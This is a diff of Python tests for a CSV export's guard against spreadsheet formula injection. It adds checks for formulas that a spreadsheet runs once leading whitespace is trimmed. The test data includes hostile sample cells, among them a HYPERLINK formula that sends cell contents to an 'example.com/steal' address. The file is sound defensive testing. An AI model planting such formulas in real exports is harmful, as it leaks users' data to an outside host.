@@ -38,10 +38,19 @@ def documented_columns() -> list[str]:
 
 DOCUMENTED_COLUMNS = documented_columns()
 LIVE = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_SIGNS = ("=", "+", "-", "@")
+
+
+def is_live(cell: str) -> bool:
+    """Would a spreadsheet, or an importer that trims the cell first, run it?"""
+    return cell.startswith(LIVE) or cell.lstrip().startswith(FORMULA_SIGNS)
+
+
 ISO_UTC = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z")
 
 # A cell that starts with one of these is a formula to a spreadsheet.
-FORMULAS = ["=SUM(A1)", "+1", "-2", "@cmd", "\t=x", "\r=x"]
+# The last three are live only after whitespace, for importers that trim (issue 15).
+FORMULAS = ["=SUM(A1)", "+1", "-2", "@cmd", "\t=x", "\r=x", " =SUM(A1)", "\n+1", "  @cmd"]
 HOSTILE_NOTES = [
     *FORMULAS,
     '=HYPERLINK("http://example.com/steal?d="&A1,"Click")',
@@ -88,7 +97,7 @@ def parse(content: bytes) -> list[list[str]]:
 
 def restored(cell: str) -> str:
     """The exact text back: one leading apostrophe off a neutralised formula."""
-    if cell.startswith("'") and cell[1:2] and cell[1] in LIVE:
+    if cell.startswith("'") and is_live(cell[1:]):
         return cell[1:]
     return cell
 
@@ -270,7 +279,7 @@ def test_it_keeps_hostile_tags_in_alphabetical_order(client, mallory, hostile_hi
     rows = as_dicts(parse(body(client.get(URL))))
 
     cell = rows[str(hostile_highlights[0].pk)]["tags"]
-    assert cell.startswith("'\t=x; \r=x; +1; -2; ")
+    assert cell.startswith("'\t=x; \n+1; \r=x;   @cmd;  =SUM(A1); +1; -2; ")
     assert restored(cell) == "; ".join(sorted(HOSTILE_TAGS))
     assert restored(rows[str(hostile_highlights[2].pk)]["tags"]) == "-2; Cold War"
 
@@ -284,7 +293,7 @@ def test_it_lets_no_cell_start_a_formula(client, mallory, hostile_highlights):
         (number, column, cell)
         for number, row in enumerate(rows)
         for column, cell in zip(rows[0], row, strict=False)
-        if cell.startswith(LIVE)
+        if is_live(cell)
     ]
     assert live == []
 
